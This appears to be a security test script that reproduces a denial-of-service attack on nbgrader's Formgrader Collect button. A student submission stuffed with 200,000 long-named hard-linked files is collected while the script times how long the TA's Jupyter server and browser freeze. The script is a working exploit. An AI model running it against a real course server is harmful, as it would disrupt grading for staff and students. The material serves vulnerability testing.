"""a11: a11 in the TA's browser (chromium, playwright): Formgrader's page posts Collect and shows the answer's log in a
<pre> of its modal (createLogModal), as its Collect button does. How long until the page answers again? (Built from a11:) a06 through Formgrader's Collect button (POST /formgrader/api/assignment/<a>/collect, which runs SafeCollect
with update=True inside the TA's Jupyter server, as `make lab` starts it). mallory's inbound folder holds an honest
notebook and a 1 MB timestamp.txt of '1.'; the TA presses Collect, a late hand-in of zoe39u's arrives, the TA presses
Collect again. Meanwhile a client asks the server for /api/status every second: how long is the server frozen?"""
from lib import *
import threading, urllib.request
A = "ps1_memory"; SIZE = int(os.environ.get("SIZE", "1000000")); PORT = 18949; N = int(os.environ.get("N", "200000"))
add_accounts()
d = make_course("a11")
X, inbound = make_exchange("a11")
cfg = "/tmp/attack39-user-a11-jcfg"; os.makedirs(cfg, exist_ok=True)
open(f"{cfg}/nbgrader_config.py", "w").write(f"c = get_config()\nc.Exchange.root = {X!r}\n")
home = "/tmp/attack39-user-a11-home"; os.makedirs(home, exist_ok=True)
for p in (d, cfg, home): chown(p)
os.chmod(d, 0o700)
lab = None
try:
    honest_inbound(inbound, A)
    tmp = "/tmp/attack39-user-a11-m.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
    open("/tmp/attack39-user-a11-ts", "w").write("1." * (SIZE // 2)); os.chmod("/tmp/attack39-user-a11-ts", 0o644)
    as_student(2392, f"""
import os, shutil
p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+' + 'r' * 180; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb')
os.mkdir(p + '/' + 'd' * 250)
q = p + '/' + 'd' * 250 + '/'
for i in range({N}):
    name = q + ('%08d' % i) + 'x' * 230 + '.pyc'
    if i % 60000 == 0: src = name; open(src, 'w').close(); continue
    os.link(src, name)
""")
    env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME=home, JUPYTER_CONFIG_DIR=cfg)
    lab = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
                            "--notebook-dir=.", "--no-browser", f"--port={PORT}", "--ServerApp.token=tok39"],
                           cwd=d, env=env, stdout=open("/tmp/attack39-user-a11-lab.log", "w"), stderr=subprocess.STDOUT)
    for _ in range(90):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{PORT}/api/status?token=tok39", timeout=2); break
        except Exception:
            time.sleep(1)
    def press():
        req = urllib.request.Request(f"http://127.0.0.1:{PORT}/formgrader/api/assignment/{A}/collect", data=b"{}", method="POST",
                                     headers={"Authorization": "token tok39", "Content-Type": "application/json"})
        t = time.time(); out = urllib.request.urlopen(req, timeout=3000).read().decode()
        return time.time() - t, out
    from playwright.sync_api import sync_playwright
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = b.new_page()
        page.goto(f"http://127.0.0.1:{PORT}/formgrader/manage_assignments?token=tok39")
        page.wait_for_load_state("networkidle")
        t = time.time()
        page.evaluate('''() => new Promise((ok, ko) => { $.post(base_url + "/formgrader/api/assignment/ps1_memory/collect")
            .done(r => { r = JSON.parse(r); window.t1 = Date.now(); createLogModal("collect-log", "Collect", "Successfully collected", r.log);
                         requestAnimationFrame(() => setTimeout(() => { window.t2 = Date.now(); ok(); }, 0)); })
            .fail((x) => ko("failed " + x.status)); })''', )
        t_done = time.time() - t
        t0 = time.time()
        try:
            h = page.evaluate("() => new Promise(ok => setTimeout(() => ok(document.querySelector('#collect-log pre').getBoundingClientRect().height), 1000))")
        except Exception as e:
            h = f"error {type(e).__name__}: {str(e)[:200]}"
        t_again = time.time() - t0 - 1.0
        print(f"laying out the shown modal (its <pre> {h} px high) took {t_again:.1f}s")
        try:
            t0 = time.time(); page.screenshot(path="/tmp/attack39-user-a11.png", timeout=300000); print(f"screenshot after {time.time()-t0:.1f}s")
        except Exception as e:
            print("screenshot:", type(e).__name__, str(e)[:200])
        sizes = page.evaluate("() => [document.querySelector('#collect-log pre') ? document.querySelector('#collect-log pre').textContent.length : -1, window.t2 - window.t1]")
        print(f"browser: Collect answered and modal shown {t_done:.1f}s after the click; modal's <pre> {sizes[0]:,} characters; "
              f"{sizes[1]/1000:.1f}s from the answer to the next frame; page answered again {t_again:.1f}s later")
        b.close()
    os.system(f"ls {d}/submitted/")
finally:
    if lab: lab.terminate(); lab.wait(20)
    shutil.rmtree(d, ignore_errors=True); shutil.rmtree(X, ignore_errors=True)
    for p in (cfg, home): shutil.rmtree(p, ignore_errors=True)
    for f in ("/tmp/attack39-user-a11-m.ipynb", "/tmp/attack39-user-a11-ts", "/tmp/attack39-user-a11-lab.log"):
        if os.path.exists(f): os.unlink(f)
    del_accounts()
